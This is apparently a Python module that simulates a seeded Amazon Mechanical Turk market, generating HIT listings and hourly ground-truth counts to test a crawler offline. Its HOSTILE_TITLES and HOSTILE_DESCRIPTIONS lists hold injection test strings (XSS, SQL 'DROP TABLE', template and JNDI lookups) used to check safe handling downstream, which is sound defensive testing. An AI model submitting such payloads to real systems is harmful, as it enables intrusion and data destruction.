"""A seeded, deterministic Amazon Mechanical Turk market on a simulated clock.

Why it exists: MTurk closed on 2026-09-30 and the real sites are out of reach on a machine with no network,
yet the crawler, the warehouse and the estimators need a live market to read and a ground truth to be
checked against. This module is that market. It knows every event (HITs arriving, completed, expiring) and
which worker did what, so the figures the warehouse *infers* from listing diffs can be compared with what
really happened.

It deliberately shares no code with the project's parsers: it writes the MTurk worker-site JSON from its own
model, so a round trip simulator -> crawler -> warehouse proves something.

Clock and determinism
---------------------
Time moves in whole minutes ("ticks"). Tick T moves the clock to minute T and runs, in this order:

1. expirations: groups whose ``latest_expiration_time <= T`` leave the listing; their remaining HITs are
   EXPIRED at T;
2. completions: active workers take HITs, only from groups that were open before this tick; every HIT taken
   lowers ``assignable_hits_count`` at once and is COMPLETED at T; a group that reaches 0 leaves the listing;
3. postings: new groups (their HITs ARRIVE at T) and, now and then, an extension of an open group that was
   neither posted nor worked in this tick (the extra HITs ARRIVE at T).

Because an extension never hits a group that was worked in the same tick and new groups are never worked in
the tick they appear, a crawl after every tick sees every event exactly: a rise is an arrival, a fall is a
completion, a disappearance before expiry is a completion, one at/after expiry is an expiry.

All randomness of the market's evolution comes from one ``random.Random`` stream consumed only by ticks, so
the state at minute T depends only on (seed, scale, start, T): not on HTTP requests, nor on how ``advance``
calls were chunked. The fixed population (requesters, workers) comes from a second stream derived from the
seed, drawn once in the constructor. Nothing in a tick iterates a ``set`` (string hashing is randomised per
process), so results are the same across processes.

The freelance marketplaces (``simulator.freelance``) live on this clock as ``Market.freelance``: each tick
of this market ends with a tick of theirs, and they draw from their own streams (derived from the seed), so
the MTurk market is exactly what it was without them.

Warm-up and truth
-----------------
The constructor runs ``WARMUP_MINUTES`` (3 days, the longest lifetime) of ticks ending with the tick at ``start`` itself, so the
listing is populated at ``start``. Ground truth is recorded only for ticks strictly after ``start``: a crawl
made at ``start`` is the baseline, and every event the truth reports happens after it. Events of tick T are
counted in the UTC hour that contains instant T (so the first hour after a whole-hour ``start`` holds 59
ticks, the tick at hh:00 belonging to hour hh).
"""

from __future__ import annotations

import math
import random
from bisect import bisect_right
from datetime import UTC, datetime
from decimal import Decimal

from simulator.freelance import FreelanceMarket

WARMUP_MINUTES = 3 * 24 * 60
DEFAULT_START = datetime(2026, 9, 1, tzinfo=UTC)

_ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"

# --- workers -------------------------------------------------------------------------------------------
# (country, share of the population, UTC offsets in minutes a worker there may live in).
# Offsets are September (summer time) values; the US spans its four mainland zones.
WORKER_COUNTRIES = [
    ("US", 0.60, (-240, -300, -360, -420)),
    ("IN", 0.20, (330,)),
    ("CA", 0.035, (-240, -300, -420)),
    ("GB", 0.035, (60,)),
    ("DE", 0.025, (120,)),
    ("PH", 0.025, (480,)),
    ("FR", 0.015, (120,)),
    ("BR", 0.015, (-180,)),
    ("VE", 0.01, (-240,)),
    ("IT", 0.01, (120,)),
    ("IE", 0.0075, (60,)),
    ("AU", 0.0075, (600,)),
    ("ES", 0.0075, (120,)),
    ("PK", 0.0075, (300,)),
]

# Relative activity by local hour (0..23): quiet at night, busy in the evening.
LOCAL_ACTIVITY = [
    0.35, 0.22, 0.14, 0.10, 0.08, 0.09, 0.15, 0.28, 0.45, 0.60, 0.70, 0.75,
    0.78, 0.80, 0.80, 0.82, 0.85, 0.90, 0.97, 1.00, 1.00, 0.92, 0.75, 0.52,
]

# Mild rhythm of postings by UTC hour: requesters are mostly in the US (UTC-4..-7).
POSTING_RHYTHM = [
    1.05, 0.95, 0.85, 0.75, 0.70, 0.65, 0.65, 0.70, 0.75, 0.80, 0.90, 1.00,
    1.10, 1.20, 1.28, 1.32, 1.35, 1.35, 1.32, 1.28, 1.22, 1.18, 1.12, 1.10,
]

WORKERS_PER_SCALE = 600
REQUESTERS_PER_SCALE = 40
GROUPS_PER_HOUR = 15.0  # at scale 1, before the rhythm
EXTENSIONS_PER_HOUR = 2.0  # at scale 1
SESSIONS_PER_WEIGHT_MINUTE = 0.025  # worker sessions per minute per unit of activity weight
MASTERS_SHARE = 0.08
# Chance to do one more HIT of the same group in a session (mean HITs per session = 1 / (1 - p)).
STICKINESS = {"image_labelling": 0.9, "survey": 0.0, "transcription": 0.5, "content_moderation": 0.9,
              "data_entry": 0.8, "signup_click": 0.3, "review_writing": 0.5}
LOW_APPROVAL_SHARE = 0.10

# --- qualifications ------------------------------------------------------------------------------------
LOCALE_QUAL_ID = "00000000000000000071"
MASTERS_QUAL_ID = "2F1QJWKUDD8XADTFD2Q0G6UTO95ALH"
APPROVAL_QUAL_ID = "000000000000000000L0"
APPROVED_COUNT_QUAL_ID = "00000000000000000040"

# (comparator, countries, weight). None = worldwide.
RESTRICTIONS = [
    (None, (), 60.0),
    ("In", ("US",), 18.0),
    ("In", ("US", "CA"), 4.0),
    ("In", ("IN",), 4.0),
    ("In", ("US", "GB", "CA", "AU"), 3.0),
    ("In", ("GB", "IE"), 2.0),
    ("In", ("DE", "AT", "CH"), 2.0),
    ("In", ("FR",), 1.0),
    ("In", ("PH",), 1.0),
    ("NotIn", ("IN",), 3.0),
    ("NotIn", ("IN", "PK", "BD"), 1.0),
    ("NotIn", ("VE",), 1.0),
]

# --- task types ----------------------------------------------------------------------------------------
# reward range in cents, hits range, assignment duration range (s)
TASK_TYPES = {
    "image_labelling": dict(reward=(1, 20), hits=(5, 1500), duration=(300, 1800)),
    "survey": dict(reward=(40, 250), hits=(1, 400), duration=(1800, 7200)),
    "transcription": dict(reward=(10, 200), hits=(1, 120), duration=(900, 7200)),
    "content_moderation": dict(reward=(2, 30), hits=(10, 1500), duration=(300, 1800)),
    "data_entry": dict(reward=(3, 80), hits=(1, 800), duration=(600, 3600)),
    "signup_click": dict(reward=(1, 15), hits=(1, 300), duration=(300, 1200)),
    "review_writing": dict(reward=(25, 150), hits=(1, 60), duration=(1200, 3600)),
}

_OBJECTS = ["cars", "birds", "street signs", "receipts", "shoes", "storefronts", "kitchen items", "pets",
            "road damage", "plants", "furniture", "food photos"]
_TOPICS = ["online shopping", "your daily commute", "news habits", "sleep", "personal finance", "video games",
           "social media use", "health apps", "remote work", "grocery prices"]
_LANGS = ["English", "Spanish", "Hindi", "French", "German"]
_SITES = ["a cashback app", "a recipe website", "a mobile game", "a price-comparison site", "a newsletter"]
_PRODUCTS = ["a bluetooth speaker", "a coffee shop", "a phone case", "a hotel stay", "a kitchen blender"]

TITLES = {
    "image_labelling": [
        ("Draw boxes around {obj} in photos", "Draw a tight bounding box around every visible item ({obj})."),
        ("Categorize images of {obj}", "Pick the category that best describes each image. Quick task."),
        ("Is there {obj} in this image? (Yes/No)", "Look at one picture and answer a single question."),
    ],
    "survey": [
        ("Academic survey about {topic} (~{mins} minutes)",
         "Answer a research questionnaire about {topic}. You will receive a completion code at the end."),
        ("Share your opinion on {topic}", "A short survey on {topic}. Attention checks are included."),
        ("Decision-making study ({mins} min)", "Play a short economic game and answer a few questions."),
    ],
    "transcription": [
        ("Transcribe a short {lang} audio clip", "Listen to a clip of about {secs} seconds and type what is said."),
        ("Transcribe data from a shopping receipt", "Type the store name, date, items and total from a receipt."),
        ("Edit a transcript ({lang})", "Correct errors in an automatic transcript; keep speaker labels."),
    ],
    "content_moderation": [
        ("Is this post offensive?", "Read a short social media post and tell us if it breaks the rules."),
        ("Review user comments for spam", "Flag comments that are spam, scams or advertising."),
        ("Rate the relevance of search results", "Judge how well each result answers the query."),
    ],
    "data_entry": [
        ("Find the website of a company", "Search the web and paste the official website URL of a business."),
        ("Copy contact details from a web page", "Open the link and copy the email address and phone number."),
        ("Extract product attributes", "Fill in brand, size and colour for a product listing."),
    ],
    "signup_click": [
        ("Sign up on {site} and confirm your email", "Create a free account on {site}; no purchase needed."),
        ("Visit a website and answer 1 question", "Open {site}, look around for 30 seconds, answer one question."),
        ("Install and open {site}", "Install, open it once and report the code shown on the first screen."),
    ],
    "review_writing": [
        ("Write a 50-word review of {product}", "Write an honest review of {product} in your own words."),
        ("Write a short product description", "Write 2-3 sentences describing {product} for an online shop."),
    ],
}

# Groups restricted to these countries get titles in the local language (and exercise UTF-8 handling).
LOCAL_TITLES = {
    "DE": [("Kurze Umfrage zum Thema Einkaufen (5 Minuten)", "Beantworten Sie Fragen zu Ihrem Einkaufsverhalten. Über 18 Jahre."),
           ("Übersetzen Sie kurze Sätze ins Deutsche", "Übersetzung von Produkttexten; Qualität wird geprüft.")],
    "FR": [("Évaluez la qualité de photos de produits", "Notez chaque photo de 1 à 5 — ça prend deux minutes."),
           ("Sondage rapide : vos habitudes de lecture", "Un questionnaire court ; code de validation à la fin.")],
}

# Untrusted text that downstream code must store and show without executing or breaking on it.
HOSTILE_TITLES = [
    "Quick survey <script>alert(1)</script>",
    "Label images'; DROP TABLE listing; --",
    "🔥 FAST HITs 🔥 bonus for good work 💰",
    "Transcribe 日本語 audio — ½ minute clips",
    "Rate \"tweets\" & replies <b>now</b>",
]
HOSTILE_DESCRIPTIONS = [
    "<img src=x onerror=alert('xss')> Describe the image.",
    "Robert'); DROP TABLE listing_state;-- Enter the data exactly.",
    "Zero\u200bwidth and RTL \u202eevil\u202c text; emoji 🙂; newline\nand tab\tinside.",
    "{{7*7}} ${jndi:ldap://example.invalid/a} %s %n",
]

_COMPANIES = ["Northbridge Research", "LabelForge", "Opinion Harbor", "Transcripta", "Quantiq Data",
              "SurveyNest", "Pixel Sorters Inc.", "Brightline Analytics", "DataDuck", "Moderato Trust & Safety",
              "Acme Consumer Panel", "Receipt Hunters", "Lumen AI Lab", "Greyfield University Lab",
              "Bay Area Cognition Lab", "ClickPulse", "TaskRiver", "Sentio Insights", "Harbor & Finch",
              "Mapwise", "VoiceScribe", "Listwell", "Kestrel Labs", "Orchard Market Research"]
_FIRST = ["Maria", "Rahul", "Emily", "James", "Zoë", "Priya", "Kwame", "Wei", "Sarah", "Tomás", "Aisha",
          "Daniel", "Sofia", "Hiroshi", "Olga", "Lukas", "Fatima", "Mateo"]
_LAST = ["Gonzalez", "Sharma", "Chen", "O'Brien", "Müller", "Natarajan", "Mensah", "Li", "Johnson", "Álvarez",
         "Khan", "Schmidt", "Rossi", "Tanaka", "Ivanova", "Dubois", "Okafor", "Nguyen"]


def iso_ms(minute: int) -> str:
    """MTurk's own timestamp style (UTC, milliseconds, 'Z') for an absolute minute."""
    return datetime.fromtimestamp(minute * 60, UTC).strftime("%Y-%m-%dT%H:%M:%S.000Z")


def iso(minute: int) -> str:
    """Plain ISO 8601 UTC for the simulator's own endpoints."""
    return datetime.fromtimestamp(minute * 60, UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def parse_iso(text: str) -> datetime:
    """Parse an ISO 8601 timestamp ('Z' or an offset; naive means UTC) into an aware UTC datetime.

    A '+' of an offset that arrived as a space (an unescaped query string) is put back.
    """
    text = text.strip()
    if len(text) > 19 and text[-6] == " ":
        text = text[:-6] + "+" + text[-5:]
    value = datetime.fromisoformat(text.replace("Z", "+00:00"))
    if value.tzinfo is None:
        value = value.replace(tzinfo=UTC)
    return value.astimezone(UTC)


def _to_minute(value: datetime | str) -> int:
    if isinstance(value, str):
        value = parse_iso(value)
    if value.tzinfo is None:
        value = value.replace(tzinfo=UTC)
    return int(value.timestamp()) // 60


def _cents_to_str(cents: int) -> str:
    return str(Decimal(cents).scaleb(-2).quantize(Decimal("0.01")))


class Group:
    """One open HIT group (a batch). Plain attributes; ``__slots__`` because ticks touch them a lot."""

    __slots__ = ("hit_set_id", "requester", "title", "description", "reward_cents", "duration_s", "created",
                 "updated", "expires", "available", "comparator", "countries", "masters", "min_approval",
                 "min_approved", "elig_keys", "pos", "open", "appeal", "stickiness")

    def eligible(self, country: str, master: bool, approved: bool) -> bool:
        if self.comparator == "In":
            if country not in self.countries:
                return False
        elif self.comparator == "NotIn" and country in self.countries:
            return False
        if self.masters and not master:
            return False
        return not (self.min_approval and not approved)


class _Hour:
    """Ground-truth counters for one UTC hour."""

    __slots__ = ("arrived", "completed", "expired", "reward_cents", "groups_posted", "elig", "workers",
                 "by_country")

    def __init__(self) -> None:
        self.arrived = self.completed = self.expired = self.reward_cents = self.groups_posted = 0
        self.elig: dict[str, list[int]] = {}  # key -> [arrived, completed, expired, reward_cents]
        self.workers: set[int] = set()  # only ever counted, never iterated into the RNG path
        self.by_country: dict[str, int] = {}

    def _e(self, key: str) -> list[int]:
        row = self.elig.get(key)
        if row is None:
            row = self.elig[key] = [0, 0, 0, 0]
        return row


class Market:
    """The simulated marketplace. See the module docstring for the tick order and determinism rules.

    ``scale`` multiplies the worker population, the requesters and the posting rate together, so the load per
    worker (and the shape of the market) stays the same while volumes grow.
    """

    def __init__(self, seed: int = 42, start: datetime | str = DEFAULT_START, scale: float = 1.0) -> None:
        if scale <= 0:
            raise ValueError("scale must be > 0")
        self.seed = int(seed)
        self.scale = float(scale)
        self.start_minute = _to_minute(start)
        self._rng = random.Random(f"mturk-market-ticks:{self.seed}")
        self._open: dict[str, Group] = {}
        self._open_list: list[Group] = []  # same groups, for O(1) random picks and swap-removal
        self._expiry: dict[int, list[Group]] = {}
        self._ids: set[str] = set()  # membership only
        self._hours: dict[int, _Hour] = {}
        self._build_population(random.Random(f"mturk-market-population:{self.seed}:{self.scale}"))
        # The freelance marketplaces share this clock but have their own random streams, so adding them left
        # the MTurk market exactly as it was. They warm up longer (30 days) and then tick with this market.
        self.freelance = FreelanceMarket(self.seed, self.start_minute, self.scale,
                                         stop=self.start_minute - WARMUP_MINUTES)
        self.now_minute = self.start_minute - WARMUP_MINUTES
        self.advance(WARMUP_MINUTES)

    # ------------------------------------------------------------------ population
    def _build_population(self, rng: random.Random) -> None:
        """Draw the fixed requesters and workers (a separate stream: never touched by ticks)."""
        n_workers = max(20, round(WORKERS_PER_SCALE * self.scale))
        countries = [c for c, _, _ in WORKER_COUNTRIES]
        shares = [s for _, s, _ in WORKER_COUNTRIES]
        offsets = {c: o for c, _, o in WORKER_COUNTRIES}
        self.worker_country: list[str] = []
        self.worker_master: list[bool] = []
        self.worker_approved: list[bool] = []
        base: list[float] = []
        local: list[int] = []
        for _ in range(n_workers):
            c = rng.choices(countries, weights=shares)[0]
            self.worker_country.append(c)
            local.append(rng.choice(offsets[c]))
            base.append(min(rng.lognormvariate(0.0, 1.0), 12.0))
            self.worker_master.append(rng.random() < MASTERS_SHARE)
            self.worker_approved.append(rng.random() >= LOW_APPROVAL_SHARE)
        # Per UTC hour of day: cumulative activity weights (for picking who works) and session rate.
        self._cum_weights: list[list[float]] = []
        self._session_rate: list[float] = []
        for h in range(24):
            acc, cum = 0.0, []
            for w in range(n_workers):
                acc += base[w] * LOCAL_ACTIVITY[((h * 60 + local[w]) // 60) % 24]
                cum.append(acc)
            self._cum_weights.append(cum)
            self._session_rate.append(acc * SESSIONS_PER_WEIGHT_MINUTE)
        self._worker_idx = list(range(n_workers))

        n_req = max(5, round(REQUESTERS_PER_SCALE * self.scale))
        types = list(TASK_TYPES)
        self.requesters: list[dict] = []
        self._req_weights: list[float] = []
        used: set[str] = set()
        for i in range(n_req):
            while True:
                rid = "A" + "".join(rng.choice(_ALNUM) for _ in range(rng.choice((12, 13))))
                if rid not in used:
                    used.add(rid)
                    break
            if rng.random() < 0.55:
                name = _COMPANIES[i % len(_COMPANIES)]
                if i >= len(_COMPANIES):
                    name = f"{name} {rng.choice(['EU', 'Asia', 'Team 2', 'Studies'])}"
            else:
                name = f"{rng.choice(_FIRST)} {rng.choice(_LAST)}"
            self.requesters.append({
                "id": rid,
                "name": name,
                "types": rng.sample(types, rng.choice((1, 1, 2, 3))),
                "restriction": rng.choices(range(len(RESTRICTIONS)), weights=[r[2] for r in RESTRICTIONS])[0],
                "masters": rng.random() < 0.12,
                "approval": rng.random() < 0.35,
            })
            self._req_weights.append(rng.paretovariate(1.3))
        self._post_rate = [GROUPS_PER_HOUR * self.scale * r / 60.0 for r in POSTING_RHYTHM]
        self._ext_prob = EXTENSIONS_PER_HOUR * self.scale / 60.0

    # ------------------------------------------------------------------ clock
    @property
    def now(self) -> datetime:
        return datetime.fromtimestamp(self.now_minute * 60, UTC)

    @property
    def start(self) -> datetime:
        return datetime.fromtimestamp(self.start_minute * 60, UTC)

    def advance(self, minutes: int) -> None:
        """Run ``minutes`` one-minute ticks. Chunking never matters: advance(2) == advance(1); advance(1)."""
        minutes = int(minutes)
        if minutes < 0:
            raise ValueError("minutes must be >= 0")
        for _ in range(minutes):
            self._tick(self.now_minute + 1)

    def _poisson(self, lam: float) -> int:
        """Knuth's method, in chunks so large rates stay exact and cheap enough."""
        rng = self._rng
        total = 0
        while lam > 0:
            part = min(lam, 25.0)
            lam -= part
            limit, k, p = math.exp(-part), 0, rng.random()
            while p > limit:
                k += 1
                p *= rng.random()
            total += k
        return total

    def _remove(self, g: Group) -> None:
        g.open = False
        del self._open[g.hit_set_id]
        last = self._open_list.pop()
        if last is not g:
            self._open_list[g.pos] = last
            last.pos = g.pos

    def _tick(self, t: int) -> None:
        rng = self._rng
        self.now_minute = t
        rec: _Hour | None = None
        if t > self.start_minute:
            rec = self._hours.get(t // 60)
            if rec is None:
                rec = self._hours[t // 60] = _Hour()

        # (1) expirations
        for g in self._expiry.pop(t, ()):
            if g.open:
                self._remove(g)
                if rec is not None and g.available:
                    rec.expired += g.available
                    for key in g.elig_keys:
                        rec._e(key)[2] += g.available

        # (2) completions
        hour = (t // 60) % 24
        touched: set[str] = set()
        sessions = self._poisson(self._session_rate[hour])
        cum = self._cum_weights[hour]
        total_w = cum[-1]
        open_list = self._open_list
        for _ in range(sessions):
            if not open_list:
                break
            w = bisect_right(cum, rng.random() * total_w)
            if w >= len(cum):
                w = len(cum) - 1
            country, master, approved = self.worker_country[w], self.worker_master[w], self.worker_approved[w]
            best: Group | None = None
            n_open = len(open_list)
            for _try in range(4):  # look at a few random groups; take the first eligible one that appeals
                # Of two groups glimpsed, the bigger batch catches the eye (workers sort by HITs available).
                cand = open_list[rng.randrange(n_open)]
                other = open_list[rng.randrange(n_open)]
                if other.available > cand.available:
                    cand = other
                if rng.random() < cand.appeal and cand.eligible(country, master, approved):
                    best = cand
                    break
            if best is None:
                continue
            k = 1
            while k < best.available and rng.random() < best.stickiness:  # work through a batch
                k += 1
            best.available -= k
            touched.add(best.hit_set_id)
            if rec is not None:
                rec.completed += k
                rec.reward_cents += k * best.reward_cents
                for key in best.elig_keys:
                    row = rec._e(key)
                    row[1] += k
                    row[3] += k * best.reward_cents
                rec.workers.add(w)
                rec.by_country[country] = rec.by_country.get(country, 0) + k
            if best.available == 0:
                self._remove(best)

        # (3) postings and extensions
        for _ in range(self._poisson(self._post_rate[hour])):
            g = self._new_group(t)
            if rec is not None:
                rec.groups_posted += 1
                rec.arrived += g.available
                for key in g.elig_keys:
                    rec._e(key)[0] += g.available
        if rng.random() < self._ext_prob and open_list:
            g = open_list[rng.randrange(len(open_list))]
            extra = 1 + int(rng.random() ** 2 * max(1, min(g.available * 2, 500)))
            if g.created != t and g.hit_set_id not in touched:
                g.available += extra
                g.updated = t
                if rec is not None:
                    rec.arrived += extra
                    for key in g.elig_keys:
                        rec._e(key)[0] += extra
        self.freelance.tick(t)

    def _new_group(self, t: int) -> Group:
        rng = self._rng
        req_i = rng.choices(range(len(self.requesters)), weights=self._req_weights)[0]
        req = self.requesters[req_i]
        ttype = rng.choice(req["types"])
        spec = TASK_TYPES[ttype]
        g = Group()
        while True:
            hid = "3" + "".join(rng.choice(_ALNUM) for _ in range(29))
            if hid not in self._ids:
                self._ids.add(hid)
                break
        g.hit_set_id = hid
        g.requester = req_i
        # restriction: usually the requester's habit, sometimes another
        ri = req["restriction"] if rng.random() < 0.8 else \
            rng.choices(range(len(RESTRICTIONS)), weights=[r[2] for r in RESTRICTIONS])[0]
        g.comparator, g.countries = RESTRICTIONS[ri][0], RESTRICTIONS[ri][1]
        g.elig_keys = g.countries if g.comparator == "In" else ("ALL",)
        g.masters = req["masters"] and rng.random() < 0.7
        g.min_approval = req["approval"] and rng.random() < 0.8
        g.min_approved = g.min_approval and rng.random() < 0.4
        lo, hi = spec["reward"]
        g.reward_cents = lo + int((hi - lo) * rng.random() ** 2)
        lo, hi = spec["hits"]
        g.available = lo + int((hi - lo) * rng.random() ** 3)
        lo, hi = spec["duration"]
        g.duration_s = (lo + int((hi - lo) * rng.random()) // 60 * 60)
        u = rng.random()
        if u < 0.3:
            lifetime = rng.randint(120, 480)
        elif u < 0.7:
            lifetime = rng.randint(480, 1800)
        else:
            lifetime = rng.randint(1800, 4320)
        g.created = g.updated = t
        # How likely a worker who sees the group takes it, and how long they stay in the batch: most groups
        # are unattractive (so many sit half-done until they expire), a few are snapped up.
        g.appeal = 0.03 + 0.97 * rng.random() ** 3
        g.stickiness = STICKINESS[ttype]
        g.expires = t + lifetime
        # text
        local = LOCAL_TITLES.get(g.countries[0]) if g.comparator == "In" and len(g.countries) <= 3 else None
        if local and rng.random() < 0.7:
            title, desc = rng.choice(local)
        else:
            title, desc = rng.choice(TITLES[ttype])
        fields = dict(obj=rng.choice(_OBJECTS), topic=rng.choice(_TOPICS), lang=rng.choice(_LANGS),
                      site=rng.choice(_SITES), product=rng.choice(_PRODUCTS), mins=rng.choice((2, 5, 10, 15, 20)),
                      secs=rng.choice((15, 30, 45, 60, 90)))
        title, desc = title.format(**fields), desc.format(**fields)
        if rng.random() < 0.03:
            title = rng.choice(HOSTILE_TITLES)
        if rng.random() < 0.03:
            desc = rng.choice(HOSTILE_DESCRIPTIONS)
        g.title, g.description = title, desc
        g.open = True
        g.pos = len(self._open_list)
        self._open[hid] = g
        self._open_list.append(g)
        self._expiry.setdefault(g.expires, []).append(g)
        return g

    # ------------------------------------------------------------------ views
    SORTS = {
        "updated_desc": (lambda g: (-g.updated, g.hit_set_id)),
        "updated_asc": (lambda g: (g.updated, g.hit_set_id)),
        "reward_desc": (lambda g: (-g.reward_cents, g.hit_set_id)),
        "reward_asc": (lambda g: (g.reward_cents, g.hit_set_id)),
        "num_hits_desc": (lambda g: (-g.available, g.hit_set_id)),
        "num_hits_asc": (lambda g: (g.available, g.hit_set_id)),
    }
    MAX_PAGE_SIZE = 100

    def listing(self, page_size: int = 20, page_number: int = 1, sort: str = "updated_desc") -> dict:
        """One page of the worker site's ``?format=json`` listing. Ties sort by hit_set_id: stable paging."""
        if sort not in self.SORTS:
            raise ValueError(f"unknown sort {sort!r}")
        page_size = max(1, min(int(page_size), self.MAX_PAGE_SIZE))
        page_number = max(1, int(page_number))
        groups = sorted(self._open.values(), key=self.SORTS[sort])
        chunk = groups[(page_number - 1) * page_size: page_number * page_size]
        return {
            "page_number": page_number,
            "num_results": len(chunk),
            "total_num_results": len(groups),
            "results": [self._result(g) for g in chunk],
        }

    def _result(self, g: Group) -> dict:
        req = self.requesters[g.requester]
        hid = g.hit_set_id
        return {
            "hit_set_id": hid,
            "requester_id": req["id"],
            "requester_name": req["name"],
            "title": g.title,
            "description": g.description,
            "assignment_duration_in_seconds": g.duration_s,
            "creation_time": iso_ms(g.created),
            "assignable_hits_count": g.available,
            "latest_expiration_time": iso_ms(g.expires),
            "caller_meets_requirements": True,
            "caller_meets_preview_requirements": True,
            "last_updated_time": iso_ms(g.updated),
            "monetary_reward": {"currency_code": "USD", "amount_in_dollars": g.reward_cents / 100},
            "accept_project_task_url": f"/projects/{hid}/tasks/accept_random?ref=w_pl_prvw",
            "requester_url": f"/requesters/{req['id']}/projects",
            "project_tasks_url": f"/projects/{hid}/tasks",
            "project_requirements": self._requirements(g),
        }

    @staticmethod
    def _requirements(g: Group) -> list[dict]:
        out = []
        if g.comparator:
            out.append(_qual(LOCALE_QUAL_ID, g.comparator, list(g.countries), "Location",
                             "The Location Qualification represents the location you specified with your mailing "
                             "address.  Some HITs may only be available to residents of particular countries, "
                             "states, provinces or cities.", "location",
                             {"integer_value": None, "locale_value": {"country": "US", "subdivision": None}}))
        if g.masters:
            out.append(_qual(MASTERS_QUAL_ID, "Exists", [], "Masters",
                             "Masters are Workers who have demonstrated a high degree of success in performing a "
                             "wide range of HITs across a large number of Requesters.", "Masters",
                             {"integer_value": 1, "locale_value": {"country": None, "subdivision": None}}))
        if g.min_approval:
            out.append(_qual(APPROVAL_QUAL_ID, "GreaterThanOrEqualTo", [95], "HIT Approval Rate (%)",
                             "The percentage of assignments submitted by a Worker that have been approved.",
                             "approval, rate",
                             {"integer_value": 99, "locale_value": {"country": None, "subdivision": None}}))
        if g.min_approved:
            out.append(_qual(APPROVED_COUNT_QUAL_ID, "GreaterThan", [1000], "Total approved HITs",
                             "Specifies the total number of HITs submitted by a Worker that have been approved.",
                             "approved, hits",
                             {"integer_value": 5000, "locale_value": {"country": None, "subdivision": None}}))
        return out

    def state(self) -> dict:
        return {
            "now": iso(self.now_minute),
            "seed": self.seed,
            "scale": self.scale,
            "open_groups": len(self._open),
            "open_hits": sum(g.available for g in self._open_list),
        }

    def truth(self, start: datetime | str | None = None, end: datetime | str | None = None) -> dict:
        """Ground truth per UTC hour for ticks after ``start`` up to now; ``start`` inclusive, ``end`` exclusive
        bounds on the hour's start. Hours without events are listed with zeros."""
        first = self.start_minute // 60
        last = self.now_minute // 60 if self.now_minute > self.start_minute else first - 1
        lo = _to_minute(start) if start is not None else None
        hi = _to_minute(end) if end is not None else None
        hours = []
        for h in range(first, last + 1):
            if lo is not None and h * 60 < lo:
                continue
            if hi is not None and h * 60 >= hi:
                continue
            hours.append(self._hour_json(h, self._hours.get(h) or _Hour()))
        return {"seed": self.seed, "scale": self.scale, "start": iso(self.start_minute),
                "now": iso(self.now_minute), "hours": hours}

    def _hour_json(self, h: int, rec: _Hour) -> dict:
        elig = {"ALL": [0, 0, 0, 0]} | rec.elig
        active: dict[str, int] = {}
        for w in sorted(rec.workers):
            c = self.worker_country[w]
            active[c] = active.get(c, 0) + 1
        return {
            "hour": iso(h * 60),
            "hits_arrived": rec.arrived,
            "hits_completed": rec.completed,
            "hits_expired": rec.expired,
            "reward_completed_usd": _cents_to_str(rec.reward_cents),
            "groups_posted": rec.groups_posted,
            "by_eligibility": {
                key: {"hits_arrived": r[0], "hits_completed": r[1], "hits_expired": r[2],
                      "reward_completed_usd": _cents_to_str(r[3])}
                for key, r in sorted(elig.items())
            },
            "active_workers_by_country": dict(sorted(active.items())),
            "completions_by_worker_country": dict(sorted(rec.by_country.items())),
        }


def _qual(qid: str, comparator: str, values: list, name: str, description: str, keywords: str,
          caller_value: dict) -> dict:
    """One ``project_requirements`` entry in the worker site's layout."""
    return {
        "qualification_type_id": qid,
        "comparator": comparator,
        "worker_action": "AcceptHit",
        "qualification_values": values,
        "qualification_request_url": f"/qualifications/{qid}/request",
        "caller_meets_requirement": True,
        "qualification_type": {
            "qualification_type_id": qid,
            "name": name,
            "visibility": True,
            "description": description,
            "has_test": False,
            "is_requestable": False,
            "keywords": keywords,
        },
        "caller_qualification_value": caller_value,
    }
